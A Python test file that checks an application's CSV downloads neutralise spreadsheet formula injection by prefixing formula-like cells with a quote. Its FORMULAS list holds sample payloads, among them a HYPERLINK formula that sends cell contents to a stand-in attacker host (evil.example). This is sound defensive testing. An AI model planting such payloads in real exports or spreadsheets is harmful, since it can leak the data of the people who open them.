"""CSV downloads cannot carry spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from engine.accounts import board
from engine.core import exports
from engine.core.access import Viewer
from engine.data import warehouse

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_text_cells_that_start_a_formula_are_neutralised():
    frame = pd.DataFrame({"name": [*FORMULAS, "Acme", None], "mrr": [-12.5, 1, 2, 3, 4, 5, 6, 7]})
    cells = _cells(exports.csv_text(frame))
    for formula in FORMULAS:
        assert formula not in cells
        assert "'" + formula in cells
    assert "Acme" in cells
    assert "-12.5" in cells, "numbers stay numbers"


def test_categorical_and_header_cells_are_neutralised():
    frame = pd.DataFrame({"=cmd": pd.Categorical(["=1", "ok"])})
    cells = _cells(exports.csv_text(frame))
    assert cells[:3] == ["'=cmd", "'=1", "ok"]


def test_no_view_writes_csv_around_the_guard():
    """Every download in views/ and components/ goes through exports.csv_text."""
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for folder in ("views", "components")
        for path in sorted((ROOT / folder).glob("**/*.py"))
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if re.search(r"\.to_csv\(", line)
    ]
    assert not offenders, f"CSV written without exports.csv_text: {offenders}"


@pytest.fixture
def hostile_board(scored_dir, tmp_path) -> Path:
    root = tmp_path / "data"
    shutil.copytree(scored_dir, root)
    wh = warehouse.get_warehouse(root)
    with wh.transaction() as cur:
        cur.execute(
            "UPDATE customers SET name = ? WHERE customer_id IN (SELECT customer_id FROM customers LIMIT 50)",
            [FORMULAS[0]],
        )
    warehouse.close_all()
    return root


def test_risk_board_export_is_neutralised(hostile_board):
    wh = warehouse.get_warehouse(hostile_board, read_only=True)
    frame = board.board_frame(wh, Viewer("exec", "executive"))
    text = exports.csv_text(board.export_frame(frame))
    cells = _cells(text)
    assert "'" + FORMULAS[0] in cells
    assert FORMULAS[0] not in cells
